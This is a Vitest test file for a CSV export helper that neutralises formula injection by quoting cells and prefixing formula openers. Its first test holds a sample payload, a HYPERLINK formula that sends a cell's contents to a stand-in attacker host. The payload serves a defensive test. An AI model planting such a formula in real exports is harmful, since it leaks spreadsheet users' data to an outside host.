import { describe, expect, it } from 'vitest';
import { csvCell, csvRow } from './csv';

describe('audit CSV cells', () => {
	it('turns a formula payload into text a spreadsheet will not run', () => {
		expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"Click")')).toBe('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"');
	});

	it('prefixes every formula opener: = + - @ tab and carriage return', () => {
		expect(['=1+1', '+44 121', '-2', '@SUM(A1)', '\tx', '\rx'].map(csvCell)).toEqual(['"\'=1+1"', '"\'+44 121"', '"\'-2"', '"\'@SUM(A1)"', '"\'\tx"', '"\'\rx"']);
	});

	it('quotes every cell, doubles quotes, and keeps commas and newlines inside the cell', () => {
		expect(csvCell('a,b')).toBe('"a,b"');
		expect(csvCell('say "hi"')).toBe('"say ""hi"""');
		expect(csvCell('line one\nline two')).toBe('"line one\nline two"');
		expect(csvCell(42)).toBe('"42"');
		expect(csvCell(null)).toBe('""');
	});

	it('leaves a formula character that is not first alone', () => {
		expect(csvCell('a=b')).toBe('"a=b"');
	});

	it('ends each row with CRLF', () => {
		expect(csvRow(['a', 'b,c', null])).toBe('"a","b,c",""\r\n');
	});
});
